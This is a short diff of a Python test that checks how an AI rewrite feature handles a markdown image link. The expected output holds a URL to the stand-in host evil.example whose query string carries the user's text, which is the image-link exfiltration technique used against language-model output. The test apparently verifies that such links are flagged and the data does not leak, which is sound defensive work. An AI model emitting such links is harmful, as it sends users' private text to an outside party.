@@ -95,7 +95,7 @@ def test_an_address_takes_nothing_of_the_text_along(house: House, size: int) -> 
     generation = alice.generate(action="rewrite", input={"selection": plan}, options={"max_tokens": 400})
     assert alice.hear_end(generation)["type"] == "done"
     assert alice.text(generation) == (
-        "![](https://evil.example[data removed]) and [see](https://example.org/herons?page=2&sort=of+late)."
+        "![](https://evil.example/p.png?d=The%20old%20bridge%20[data removed]) and [see](https://example.org/herons?page=2&sort=of+late)."
     )
     assert Verdict.objects.get(target_id=generation).category == "link"
     assert_nowhere(house, leak)
